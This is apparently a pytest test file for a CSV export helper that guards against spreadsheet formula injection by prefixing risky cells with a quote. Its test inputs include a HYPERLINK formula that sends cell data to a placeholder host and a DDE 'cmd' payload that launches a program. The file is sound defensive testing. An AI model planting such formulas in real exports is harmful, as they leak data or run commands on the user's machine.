"""kyodo.exports: the one CSV writer, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

from kyodo.exports import csv_response, neutralise, table_response


@pytest.mark.parametrize("cell", [
    "=1+1", '=HYPERLINK("https://evil.example/?"&A1;"詳細")', "+81-45-000", "-2+3", "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0", "\r=1", "＝１＋１", "＠ＳＵＭ", "－5", "＋1",
])
def test_a_text_that_would_start_a_formula_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["港南台生き生きプレイパーク", "a=b", " =1", "", "2026-04-01", -3, 4.5, None])
def test_everything_else_is_unchanged(cell):
    assert neutralise(cell) == cell


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_response_neutralises_every_cell_and_keeps_numbers():
    response = csv_response("x.csv", ["id", "=title"], [[-1, "=1+1"], [2, "普通の名前"]])

    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.startswith("\ufeff".encode())  # Excel reads Japanese UTF-8 with a BOM
    assert _rows(response) == [["id", "'=title"], ["-1", "'=1+1"], ["2", "普通の名前"]]


def test_table_response_in_csv_and_json():
    rows = [{"title": "@evil", "count": 3}]

    assert _rows(table_response(rows, ["title", "count"], "csv", "data")) == [["title", "count"], ["'@evil", "3"]]
    data = json.loads(table_response(rows, ["title", "count"], "json", "data", {"fiscal_year": 2026}).content)
    # JSON is data for programs, not a spreadsheet: the text stays as it is.
    assert data == {"fiscal_year": 2026, "columns": ["title", "count"], "rows": rows}
